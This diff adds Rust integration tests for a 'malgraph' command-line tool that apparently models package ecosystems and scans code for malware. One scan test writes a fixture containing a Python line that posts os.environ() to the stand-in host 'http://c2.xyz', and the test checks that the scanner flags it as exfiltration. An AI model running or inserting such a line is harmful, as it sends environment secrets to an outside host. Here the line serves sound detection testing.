@@ -1,0 +1,93 @@
+//! Integration tests for the `malgraph` CLI binary: the downstream-user
+//! flow (world → collect → analyze → scan) through a real process.
+
+use std::process::Command;
+
+fn bin() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_malgraph"))
+}
+
+#[test]
+fn world_prints_statistics() {
+    let out = bin()
+        .args(["world", "--seed", "5", "--scale", "0.02"])
+        .output()
+        .expect("binary runs");
+    assert!(out.status.success());
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("packages"));
+    assert!(text.contains("campaigns"));
+    assert!(text.contains("mirrors"));
+}
+
+#[test]
+fn collect_then_analyze_round_trips() {
+    let dir = std::env::temp_dir().join(format!("malgraph-cli-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let corpus = dir.join("corpus.json");
+
+    let out = bin()
+        .args([
+            "collect",
+            "--seed",
+            "5",
+            "--scale",
+            "0.02",
+            "--out",
+            corpus.to_str().unwrap(),
+        ])
+        .output()
+        .expect("binary runs");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(corpus.exists());
+
+    let out = bin()
+        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
+        .output()
+        .expect("binary runs");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("relation graphs"));
+    assert!(text.contains("missing rate"));
+    assert!(text.contains("ops over"));
+
+    std::fs::remove_dir_all(&dir).ok();
+}
+
+#[test]
+fn scan_flags_malicious_code_with_nonzero_exit() {
+    let dir = std::env::temp_dir().join(format!("malgraph-scan-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let evil = dir.join("evil.pyl");
+    std::fs::write(
+        &evil,
+        "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
+    )
+    .unwrap();
+    let out = bin()
+        .args(["scan", evil.to_str().unwrap()])
+        .output()
+        .expect("binary runs");
+    assert_eq!(out.status.code(), Some(1), "malicious scan exits 1");
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("malicious=true"));
+    assert!(text.contains("exfiltration"));
+
+    let clean = dir.join("clean.pyl");
+    std::fs::write(&clean, "def add(a, b):\n    return a + b\n").unwrap();
+    let out = bin()
+        .args(["scan", clean.to_str().unwrap()])
+        .output()
+        .expect("binary runs");
+    assert_eq!(out.status.code(), Some(0), "clean scan exits 0");
+
+    std::fs::remove_dir_all(&dir).ok();
+}
+
+#[test]
+fn bad_usage_exits_with_error() {
+    let out = bin().output().expect("binary runs");
+    assert_eq!(out.status.code(), Some(2));
+    let out = bin().args(["analyze"]).output().expect("binary runs");
+    assert_eq!(out.status.code(), Some(2));
+}
